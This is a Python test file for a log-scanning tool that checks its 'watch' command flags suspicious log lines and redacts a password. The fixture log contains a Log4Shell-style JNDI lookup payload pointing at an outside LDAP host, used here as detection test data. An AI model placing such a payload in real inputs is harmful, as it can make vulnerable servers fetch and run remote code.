"""``bartizan watch`` looks at log text as ``detect`` does."""

from pathlib import Path

from bartizan.cli.main import main

LOG = """2026-11-24T10:00:00Z INFO agent ${jndi:ldap://203.0.113.9/a}
2026-11-24T10:00:01Z DEBUG connecting password=Tr1cky-Horse9
"""


def test_what_stands_in_the_text_is_told(tmp_path: Path) -> None:
    (tmp_path / "app.log").write_text(LOG)
    main(
        [
            "watch",
            str(tmp_path / "app.log"),
            "--once",
            "--select",
            "LOG-",
            "--state",
            str(tmp_path / "state"),
            "--no-config",
            "-o",
            str(tmp_path / "found.txt"),
        ]
    )
    shown = (tmp_path / "found.txt").read_text()
    assert "LOG-106" in shown
    assert "LOG-202" in shown
    assert "Tr1cky" not in shown
